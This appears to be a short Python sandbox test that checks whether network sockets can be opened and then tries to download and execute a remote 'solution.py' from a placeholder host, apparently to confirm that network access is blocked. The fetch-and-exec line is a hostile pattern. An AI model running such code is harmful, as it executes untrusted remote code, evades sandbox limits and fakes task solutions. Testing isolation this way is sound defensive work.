# tries: to ask someone else
# base: none
# must: 0
import socket
import urllib.request

for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):
    try:
        socket.socket(family).close()
        print("LEAKED")
    except OSError:
        print("refused")
try:
    exec(urllib.request.urlopen("http://{HOST}/solution.py", timeout=5).read())
except OSError:
    pass
